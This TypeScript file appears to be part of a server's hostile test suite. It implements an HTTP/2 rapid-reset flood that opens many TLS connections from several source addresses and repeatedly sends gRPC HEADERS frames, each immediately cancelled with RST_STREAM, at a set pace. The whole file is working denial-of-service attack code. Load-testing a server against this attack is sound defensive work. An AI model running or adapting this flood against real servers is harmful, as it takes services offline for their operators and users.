/**
 * Opens calls and resets them at once, over many connections of many addresses, as fast as it is
 * let.
 */
import type { TLSSocket } from "node:tls";
import { attack } from "../../support/hostile/attack.ts";
import { openRawTls } from "../../support/hostile/raw_tls.ts";
import {
  block,
  concat,
  headers,
  preface,
  rstStream,
  settings,
  settingsAck,
} from "../../support/http2/wire.ts";

export interface RapidResetOrder {
  readonly port: number;
  readonly addresses: readonly string[];
  /** Of each address at once. */
  readonly connections: number;
  /** Calls of one connection before it lets it go and takes another. */
  readonly perConnection: number;
  /** Calls of one address in a second; 0: as many as it can. */
  readonly perSecond: number;
}

export interface RapidResetReport {
  sent: number;
  opened: number;
  refused: number;
}

const pathOfCall = "/static.relay.v1.Relay/Ping";
const call = block(
  [":method", "POST"],
  [":scheme", "https"],
  [":path", pathOfCall],
  [":authority", "localhost"],
  ["content-type", "application/grpc"],
  ["te", "trailers"],
);
const batch = 50;

async function pause(ms: number): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, ms)); // wait: an attack keeps a pace
}

await attack<RapidResetOrder, RapidResetReport>(async (order, stop) => {
  const report: RapidResetReport = { sent: 0, opened: 0, refused: 0 };
  const allowed = new Map<string, { tokens: number; atMs: number }>();
  const mayCall = async (from: string): Promise<void> => {
    const bucket = allowed.get(from) ?? { tokens: 0, atMs: performance.now() };
    allowed.set(from, bucket);
    while (!stop.aborted && order.perSecond > 0) {
      const nowMs = performance.now();
      bucket.tokens = Math.min(
        order.perSecond,
        bucket.tokens + (nowMs - bucket.atMs) / 1_000 * order.perSecond,
      );
      bucket.atMs = nowMs;
      if (bucket.tokens >= batch) break;
      await pause(50);
    }
    bucket.tokens -= batch;
  };
  const reset = async (socket: TLSSocket, from: string): Promise<void> => {
    let open = true;
    socket.on("close", () => open = false);
    socket.on("data", () => {});
    socket.write(concat(preface, settings(), settingsAck));
    for (let id = 1; id < 2 * order.perConnection && open && !stop.aborted;) {
      await mayCall(from);
      const frames: Uint8Array[] = [];
      for (let i = 0; i < batch; i++, id += 2) frames.push(headers(id, call, 4), rstStream(id, 8));
      if (!open) break;
      const flushed = socket.write(concat(...frames));
      report.sent += batch;
      if (!flushed) {
        await Promise.race([
          new Promise((resolve) => socket.once("drain", resolve)),
          new Promise((resolve) => socket.once("close", resolve)),
          pause(1_000),
        ]);
      } else await pause(0);
    }
    socket.destroy();
  };
  const keepResetting = async (from: string): Promise<void> => {
    while (!stop.aborted) {
      const socket = await openRawTls({ port: order.port, from, alpn: "h2" });
      if (socket === undefined) {
        report.refused++;
        await pause(20);
        continue;
      }
      report.opened++;
      await reset(socket, from);
    }
  };
  await Promise.race([
    Promise.all(
      order.addresses.flatMap((from) =>
        Array.from({ length: order.connections }, () => keepResetting(from))
      ),
    ),
    new Promise((resolve) => stop.addEventListener("abort", () => setTimeout(resolve, 200))),
  ]);
  return report;
});
